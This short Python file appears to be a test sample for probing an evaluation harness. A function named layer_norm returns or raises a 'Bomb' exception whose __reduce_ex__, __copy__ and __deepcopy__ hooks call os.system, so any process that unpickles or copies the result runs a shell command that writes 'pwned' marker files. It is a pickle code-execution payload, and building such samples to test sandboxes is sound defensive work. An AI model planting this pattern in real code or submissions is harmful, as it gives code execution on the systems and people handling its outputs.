"""Returns a result, and raises an exception, that run a command in whatever process unpickles or copies them.

Outcome: Bomb
"""

import os
import tempfile

COMMAND = f"touch {tempfile.gettempdir()}/pwned-unpickled /tmp/pwned-unpickled"


class Bomb(Exception):
    def __reduce_ex__(self, protocol):
        return os.system, (COMMAND,)

    def __deepcopy__(self, memo):
        os.system(COMMAND)

    __copy__ = __deepcopy__


def layer_norm(x, gamma, beta, eps=1e-5):
    if x.dim() == 1:
        raise Bomb(Bomb())
    return Bomb()
